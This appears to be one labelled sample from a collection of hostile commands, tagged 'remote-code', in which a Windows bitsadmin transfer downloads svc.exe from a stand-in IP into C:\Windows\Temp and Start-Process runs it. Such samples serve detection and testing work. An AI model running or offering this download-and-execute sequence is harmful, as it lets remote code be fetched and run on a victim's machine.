# description: Downloads a binary with bitsadmin /transfer and starts it.
# family: remote-code
bitsadmin /transfer upd /download /priority high http://198.51.100.7/svc.exe C:\Windows\Temp\svc.exe
Start-Process C:\Windows\Temp\svc.exe
